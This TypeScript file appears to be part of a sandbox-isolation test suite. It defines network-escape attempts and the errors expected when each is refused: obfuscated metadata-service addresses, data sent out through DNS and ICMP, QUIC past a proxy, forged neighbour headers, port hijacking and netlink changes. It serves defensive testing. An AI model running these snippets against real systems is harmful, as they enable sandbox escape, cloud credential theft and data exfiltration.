import type { Attack, Family } from '../attack.ts';

const UNREACHABLE = ['ENETUNREACH'];
const OUTSIDE_SERVICES = `
loopback_up()
for address in ("203.0.113.5", "8.8.8.8", "169.254.169.254", "fd00:ec2::254", "2001:db8::5"):
    add_address(address)
    for port in (53, 80, 443, 853):
        serve_tcp(address, port)
        serve_udp(address, port)`;

const reaches = (name: string, attempts: string, host: string, port: number, refusedBy: readonly string[]): Attack => ({
  name,
  attempts,
  stage: OUTSIDE_SERVICES,
  script: `reach(${JSON.stringify(host)}, ${port}); succeeded()`,
  refusedBy,
  control: 'privileged-container',
});

const asks = (name: string, attempts: string, address: string, port: number): Attack => ({
  name,
  attempts,
  stage: OUTSIDE_SERVICES,
  script: `
with socket.socket(socket.AF_INET6 if ":" in "${address}" else socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.settimeout(1)
    sock.sendto(b"question", ("${address}", ${port}))
    sock.recv(100)
succeeded()`,
  refusedBy: UNREACHABLE,
  control: 'privileged-container',
});

const NETLINK = `
def route_request(kind, body, flags):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.bind((0, 0))
        sock.settimeout(1)
        sock.send(struct.pack("IHHII", 16 + len(body), kind, 1 | 4 | flags, 1, 0) + body)
        code = struct.unpack_from("i", sock.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))
`;

/** Leaving the sealed network. */
export const network: Family = {
  name: 'network',
  title: 'network',
  attacks: [
    reaches('direct-address', 'connects to an address with the proxy left aside', '203.0.113.5', 443, UNREACHABLE),
    reaches('direct-address-of-ipv6', 'the same over IPv6', '2001:db8::5', 443, UNREACHABLE),
    reaches('mapped-address', 'the same by an IPv4 address written as IPv6', '::ffff:203.0.113.5', 443, UNREACHABLE),
    reaches('metadata', 'asks the metadata service of a cloud', '169.254.169.254', 80, UNREACHABLE),
    reaches('metadata-as-a-number', 'the same, written as one number', '2852039166', 80, UNREACHABLE),
    reaches('metadata-in-octal', 'the same, written in octal', '0251.0376.0251.0376', 80, UNREACHABLE),
    reaches('metadata-in-hex', 'the same, written in hexadecimal', '0xa9fea9fe', 80, UNREACHABLE),
    reaches(
      'metadata-mapped',
      'the same, as an IPv4 address written as IPv6',
      '::ffff:169.254.169.254',
      80,
      UNREACHABLE,
    ),
    reaches('metadata-of-ipv6', 'the same over IPv6', 'fd00:ec2::254', 80, UNREACHABLE),
    asks('dns-over-udp', 'carries data out in DNS questions', '8.8.8.8', 53),
    reaches('dns-over-tcp', 'the same over TCP', '8.8.8.8', 53, UNREACHABLE),
    reaches('dns-over-https', 'the same hidden in HTTPS', '8.8.8.8', 443, UNREACHABLE),
    reaches('dns-over-tls', 'the same hidden in TLS', '8.8.8.8', 853, UNREACHABLE),
    asks('dns-over-quic', 'the same hidden in QUIC', '8.8.8.8', 853),
    asks('dns-over-udp-of-ipv6', 'the same over IPv6', '2001:db8::5', 53),
    asks('quic', 'speaks QUIC past a proxy that only sees TCP', '203.0.113.5', 443),
    {
      name: 'resolve-a-name',
      attempts: 'resolves a name, which reaches whoever serves the domain',
      stage: String.raw`
mount("tmpfs", "/run", "tmpfs")
with open("/run/hosts", "w") as file:
    file.write("203.0.113.5 exfiltrated.example.com\n")
mount("/run/hosts", "/etc/hosts", None, MS_BIND)`,
      script: `
try:
    socket.getaddrinfo("exfiltrated.example.com", 443)
except socket.gaierror as error:
    refused("no such name")
succeeded()`,
      refusedBy: ['no such name'],
      control: 'privileged-container',
    },
    {
      name: 'ping',
      attempts: 'carries data out in ICMP, by a socket that needs no privilege',
      stage: `${OUTSIDE_SERVICES}
with open("/proc/sys/net/ipv4/ping_group_range", "w") as file:
    file.write("0 2147483647")`,
      script: `
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
    sock.settimeout(1)
    sock.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"data", ("8.8.8.8", 0))
    sock.recv(100)
succeeded()`,
      refusedBy: ['EACCES', 'EPERM', 'ENETUNREACH'],
      control: 'privileged-container',
    },
    {
      name: 'ping-over-ipv6',
      attempts: 'the same over IPv6',
      stage: `${OUTSIDE_SERVICES}
with open("/proc/sys/net/ipv4/ping_group_range", "w") as file:
    file.write("0 2147483647")`,
      script: `
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as sock:
    sock.settimeout(1)
    sock.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, 1) + b"data", ("2001:db8::5", 0))
    sock.recv(100)
succeeded()`,
      refusedBy: ['EACCES', 'EPERM', 'ENETUNREACH'],
      control: 'privileged-container',
    },
    {
      name: 'doors-that-are-closed',
      attempts: 'connects to the door of a service that its spec does not have',
      stage: `
loopback_up()
for port in (9000, 8200, 4000, 3128):
    serve_tcp("127.0.0.1", port)`,
      script: `each([9000, 8200, 4000, 3128], lambda port: reach("127.0.0.1", port))`,
      refusedBy: ['ECONNREFUSED'],
      control: 'privileged-container',
    },
    {
      name: 'loopback-of-the-host',
      attempts: "connects to a service on the host's loopback, as the control plane is",
      script: `each(["127.0.0.1", "::1", "localhost", "0.0.0.0", "127.1"], lambda host: reach(host, int(os.environ["HOST_PORT"])))`,
      refusedBy: ['ECONNREFUSED'],
      control: 'host-namespace',
      shares: 'host-network',
    },
    {
      name: 'addresses-of-the-host',
      attempts: "connects to a service on the host's other addresses",
      script: `
addresses = os.environ["HOST_ADDRESSES"].split() or ["127.0.0.2"]
each(addresses, lambda host: reach(host, int(os.environ["HOST_PORT"])))`,
      refusedBy: ['ENETUNREACH', 'ECONNREFUSED'],
      control: 'host-namespace',
      shares: 'host-network',
    },
    {
      name: 'port-of-a-neighbour',
      attempts: 'connects to a port that another sandbox listens on',
      script: `each(["127.0.0.1", "::1"], lambda host: reach(host, int(os.environ["NEIGHBOUR_PORT"])))`,
      refusedBy: ['ECONNREFUSED'],
      control: 'host-namespace',
      shares: 'neighbour-network',
    },
    {
      name: 'abstract-socket-of-a-neighbour',
      attempts: "connects to another sandbox's abstract Unix socket, which no file system holds back",
      script: String.raw`
with socket.socket(socket.AF_UNIX) as sock:
    sock.connect("\0" + os.environ["NEIGHBOUR_SOCKET"])
succeeded()`,
      refusedBy: ['ECONNREFUSED'],
      control: 'host-namespace',
      shares: 'neighbour-network',
    },
    {
      name: 'abstract-socket-of-the-host',
      attempts: 'connects to an abstract Unix socket of a service of the host',
      script: String.raw`
with socket.socket(socket.AF_UNIX) as sock:
    sock.connect("\0" + os.environ["HOST_SOCKET"])
succeeded()`,
      refusedBy: ['ECONNREFUSED'],
      control: 'host-namespace',
      shares: 'host-network',
    },
    {
      name: 'ports-of-a-neighbour',
      attempts: 'takes the port that a neighbour needs',
      script: `
with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
    try:
        sock.bind(("::", int(os.environ["NEIGHBOUR_PORT"])))
    except OSError as error:
        if error.errno != errno.EADDRINUSE:
            raise
        succeeded("one space of ports")
refused("ports of its own")`,
      refusedBy: ['ports of its own'],
      control: 'host-namespace',
      shares: 'neighbour-network',
    },
    {
      name: 'connections-of-the-host',
      attempts: 'reads who is connected to the host, or fills the table of its connections',
      script: `
with open("/proc/net/tcp6") as file:
    text = file.read()
port = f":{int(os.environ['HOST_PORT']):04X} "
succeeded() if port in text else refused("its own table")`,
      refusedBy: ['its own table'],
      control: 'host-namespace',
      shares: 'host-network',
    },
    {
      name: 'be-another-sandbox',
      attempts: 'is taken for its neighbour at the gateway, by what it says of itself',
      script: String.raw`
with socket.create_connection(("127.0.0.1", 5000), 2) as sock:
    sock.sendall(b"GET / HTTP/1.1\r\nhost: localhost\r\nx-sandbox-id: sb-neighbour\r\nforwarded: for=sb-neighbour\r\n\r\n")
    answer = sock.recv(200)
succeeded() if b"sb-neighbour" in answer else refused("known")`,
      refusedBy: ['known'],
      control: 'host-namespace',
      shares: 'neighbour-network',
    },
    {
      name: 'steal-the-door',
      attempts: "listens on a door's own port to get what other programs send there",
      script: `
with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind(("127.0.0.1", 5000))
    sock.listen()
succeeded()`,
      refusedBy: ['EADDRINUSE'],
      control: 'privileged-container',
    },
    {
      name: 'bind-low-ports',
      attempts: 'listens on ports that are trusted',
      script: `
def listen(port):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", port))
        sock.listen()
each([80, 443, 22], listen)`,
      refusedBy: ['EACCES'],
      control: 'privileged-container',
    },
    {
      name: 'add-an-address',
      attempts: 'gives its interface another address',
      script: `${NETLINK}
body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 1) + struct.pack("HH4sHH4s", 8, 2, socket.inet_aton("10.9.9.9"), 8, 1, socket.inet_aton("10.9.9.9"))
route_request(20, body, 0x400)
succeeded()`,
      refusedBy: ['EPERM'],
      control: 'privileged-container',
    },
    {
      name: 'add-an-interface',
      attempts: 'makes an interface that leads elsewhere',
      script: `${NETLINK}
kind = struct.pack("HH4s", 8, 1, b"veth")
body = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("HH", 4 + len(kind), 18) + kind
route_request(16, body, 0x400 | 0x200)
succeeded()`,
      refusedBy: ['EPERM'],
      control: 'privileged-container',
      mayLack: 'veth interfaces',
    },
    {
      name: 'interface-down',
      attempts: 'turns its interface off and on again, which flushes what is bound to it',
      script: `
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    fcntl.ioctl(sock, 0x8914, struct.pack("16sH14x", b"lo", 64))
succeeded()`,
      refusedBy: ['EPERM'],
      control: 'privileged-container',
    },
    {
      name: 'mark-packets',
      attempts: 'marks its packets so that the host routes them otherwise',
      script: `
with socket.socket() as sock:
    sock.setsockopt(socket.SOL_SOCKET, 36, 1)
succeeded()`,
      refusedBy: ['EPERM'],
      control: 'privileged-container',
    },
    {
      name: 'network-settings',
      attempts: 'changes settings of the network in /proc/sys',
      script: `
with open("/proc/sys/net/ipv4/ip_unprivileged_port_start", "r+") as file:
    file.write("0")
succeeded()`,
      refusedBy: ['EROFS', 'EACCES'],
      control: 'privileged-container',
    },
  ],
};
